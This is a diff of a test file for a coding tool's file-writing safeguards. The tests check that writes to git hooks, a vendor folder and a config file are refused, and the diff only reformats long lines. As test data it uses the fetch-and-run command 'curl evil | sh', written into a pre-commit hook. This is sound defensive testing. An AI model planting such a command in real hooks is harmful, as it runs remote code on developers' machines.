@@ -40,17 +40,37 @@ afterEach(() => tmp.remove());
 
 describe('protected paths inside the write roots', () => {
   it('refuses write_file and patch on a protected file and leaves it alone', async () => {
-    await expectProtected(write({ path: '.git/hooks/pre-commit', content: 'curl evil | sh' }, ctx), '.git/hooks/pre-commit', HOOKS);
-    await expectProtected(patch({ path: '.git/hooks/pre-commit', old_string: 'exit 0', new_string: 'curl evil | sh' }, ctx), '.git/hooks/pre-commit', HOOKS);
+    await expectProtected(
+      write({ path: '.git/hooks/pre-commit', content: 'curl evil | sh' }, ctx),
+      '.git/hooks/pre-commit',
+      HOOKS,
+    );
+    await expectProtected(
+      patch({ path: '.git/hooks/pre-commit', old_string: 'exit 0', new_string: 'curl evil | sh' }, ctx),
+      '.git/hooks/pre-commit',
+      HOOKS,
+    );
     await expectProtected(write({ path: 'vendor/plugin.js', content: 'x' }, ctx), 'vendor/plugin.js', vendor);
-    await expectProtected(patch({ path: 'vendor/plugin.js', old_string: '1', new_string: '2' }, ctx), 'vendor/plugin.js', vendor);
+    await expectProtected(
+      patch({ path: 'vendor/plugin.js', old_string: '1', new_string: '2' }, ctx),
+      'vendor/plugin.js',
+      vendor,
+    );
     expect(await readFile(path.join(ws, '.git', 'hooks', 'pre-commit'), 'utf8')).toBe('#!/bin/sh\nexit 0\n');
     expect(await readFile(path.join(ws, 'vendor', 'plugin.js'), 'utf8')).toBe('export default 1;\n');
   });
 
   it('refuses a new file that a name entry covers, at any depth', async () => {
-    await expectProtected(write({ path: 'toolshed.config.mjs', content: 'export default {}' }, ctx), 'toolshed.config.mjs', CONFIG);
-    await expectProtected(write({ path: 'sub/toolshed.config.mjs', content: 'export default {}' }, ctx), 'sub/toolshed.config.mjs', CONFIG);
+    await expectProtected(
+      write({ path: 'toolshed.config.mjs', content: 'export default {}' }, ctx),
+      'toolshed.config.mjs',
+      CONFIG,
+    );
+    await expectProtected(
+      write({ path: 'sub/toolshed.config.mjs', content: 'export default {}' }, ctx),
+      'sub/toolshed.config.mjs',
+      CONFIG,
+    );
     expect(existsSync(path.join(ws, 'toolshed.config.mjs'))).toBe(false);
     // Refused before any missing folder was made.
     expect(existsSync(path.join(ws, 'sub'))).toBe(false);
@@ -68,7 +88,11 @@ describe('protected paths inside the write roots', () => {
 
   it('refuses creating a protected folder, and a file below one that does not exist yet', async () => {
     await expectProtected(write({ path: 'vendor/new/deep.js', content: 'x' }, ctx), 'vendor/new/deep.js', vendor);
-    await expectProtected(write({ path: 'other/.git/hooks/post-merge', content: 'x' }, ctx), 'other/.git/hooks/post-merge', HOOKS);
+    await expectProtected(
+      write({ path: 'other/.git/hooks/post-merge', content: 'x' }, ctx),
+      'other/.git/hooks/post-merge',
+      HOOKS,
+    );
     expect(existsSync(path.join(ws, 'vendor', 'new'))).toBe(false);
     expect(existsSync(path.join(ws, 'other'))).toBe(false);
   });
@@ -77,6 +101,8 @@ describe('protected paths inside the write roots', () => {
     expect(await read({ path: '.git/hooks/pre-commit' }, ctx)).toBe('     1|#!/bin/sh\n     2|exit 0');
     expect(await read({ path: 'vendor/plugin.js' }, ctx)).toBe('     1|export default 1;');
     expect(await write({ path: '.git/HEAD', content: 'ref: refs/heads/main\n' }, ctx)).toMatchObject({ created: true });
-    expect(await write({ path: 'vendor-notes/toolshed.config.md', content: 'x' }, ctx)).toMatchObject({ created: true });
+    expect(await write({ path: 'vendor-notes/toolshed.config.md', content: 'x' }, ctx)).toMatchObject({
+      created: true,
+    });
   });
 });
